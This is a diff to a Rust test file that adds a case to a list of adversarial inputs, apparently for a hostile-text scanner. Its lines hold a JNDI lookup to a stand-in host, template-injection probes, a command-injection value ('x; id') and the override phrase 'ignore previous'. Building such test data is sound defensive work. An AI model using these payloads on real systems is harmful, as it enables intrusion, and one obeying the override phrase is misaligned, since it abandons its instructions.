@@ -205,6 +205,9 @@ fn adversarial() -> Vec<(&'static str, Vec<u8>)> {
         ("template-walks-in-prose", one_field("text", rep(".__mro__ "))),
         ("template-file-reads", one_field("template", rep(&format!("<%= {} %>", "open(".repeat(800))))),
         ("template-jndi-lookups", one_field("line", rep("${jndi:ldap://evil[.]example/a} "))),
+        // Prose then a value on a line of its own, again and again: every
+        // such line is read as a value (`Decoding::Tail`), each once.
+        ("value-lines-after-prose", one_field("input", rep("The cat sat on the mat.\nx; id\n"))),
         ("urls", one_string(rep("http://a@b.c/?u=http:// "))),
         ("prompt-phrases", one_string(rep("ignore previous "))),
         ("homoglyphs-and-zero-width", one_string(rep("і\u{200B}ｇ"))),
